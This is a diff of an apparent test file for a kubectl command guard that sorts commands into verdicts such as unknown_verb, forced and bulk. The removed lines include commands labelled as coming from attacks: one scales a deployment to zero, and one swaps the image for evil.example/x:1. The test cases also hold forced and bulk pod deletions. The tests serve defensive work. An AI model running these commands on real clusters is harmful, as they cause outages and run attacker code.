@@ -20,15 +20,6 @@ function codeOf(line: string): string {
 /** Verbs that the registry does not have yet; the list shrinks when one is added, and only then. */
 const NOT_YET: { readonly [line: string]: string } = {
   'kubectl auth can-i patch deployments -n web': 'unknown_verb',
-  'kubectl rollout pause deployment/web -n web': 'unknown_verb',
-  'kubectl uncordon n1': 'unknown_verb',
-  'kubectl set resources deployment/web -c app --limits=memory=512Mi -n web': 'unknown_verb',
-  'kubectl patch hpa web -n web --type=merge -p {"spec":{"maxReplicas":12}}': 'unknown_verb',
-  'kubectl delete job backfill-1 -n web': 'kind_not_for_verb',
-  // From the attacks, which the next version classifies instead of refusing:
-  'kubectl patch deployment web -n web --subresource=scale --type=merge -p {"spec":{"replicas":0}}':
-    'unknown_verb',
-  'kubectl set image deployment/web web=evil.example/x:1 -n web': 'unknown_verb',
 };
 /** The grammar takes it; that the namespace is protected is said by the rule for that (see guard.test.ts). */
 const PROTECTED = 'kubectl delete pod web-0 -n kube-system';
@@ -122,7 +113,8 @@ describe('flags', () => {
     ['kubectl logs -f web-0 -n web', 'forbidden_flag'],
     ['kubectl logs --follow web-0 -n web', 'unbounded'],
     ['kubectl rollout status deployment/web -n web --watch=true', 'bad_value'],
-    ['kubectl delete pod web-0 -n web --force', 'forced'],
+    ['kubectl delete job web-0 -n web --force', 'forced'],
+    ['kubectl delete pod web-0 -n web --now', 'forced'],
     ['kubectl delete pod web-0 -n web --grace-period=0', 'forced'],
     ['kubectl delete pod --all -n web', 'bulk'],
     ['kubectl delete pod -l app=web -n web', 'unknown_flag'],
